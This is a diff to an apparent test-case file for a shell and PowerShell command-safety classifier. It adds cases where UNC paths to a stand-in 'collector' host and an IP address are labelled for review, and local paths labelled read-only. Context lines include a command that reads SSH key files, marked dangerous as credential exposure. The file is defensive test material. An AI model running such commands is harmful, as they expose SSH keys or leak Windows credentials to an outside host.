@@ -1237,6 +1237,11 @@ export const EVASION_CASES: readonly CommandCase[] = [
     "credential_exposure",
   ],
   ["cd ~; Get-ChildItem .ssh | Get-Content", "dangerous", "credential_exposure"],
+  // review53: a UNC path given to a PowerShell cmdlet opens a file on another machine over SMB
+  // (offering the user's Windows credentials to it): the network, review.
+  ["Get-Content \\\\collector.example.test\\share\\x.txt", "review"],
+  ["gci '\\\\203.0.113.7\\c$'", "review"],
+  ["Test-Path -Path //collector.example.test/share", "review"],
 ];
 
 /** Commands that look like dangerous ones but are read-only or only need review. */
@@ -1715,6 +1720,10 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["Get-ChildItem ~/.ssh", "read_only"],
   ["Get-ChildItem ./src | Get-Content", "read_only"],
   ["ls ~/.ssh | cat", "read_only"],
+  // A path on the current drive, a drive path, and bash's ls of a doubled slash (one root).
+  ["Get-Content '\\Windows\\win.ini'", "read_only"],
+  ["Get-ChildItem -Path C:\\Users", "read_only"],
+  ["ls //etc", "read_only"],
   ["cat config/*", "read_only"],
   ["cat *.json", "read_only"],
   ["grep -r TODO *", "read_only"],
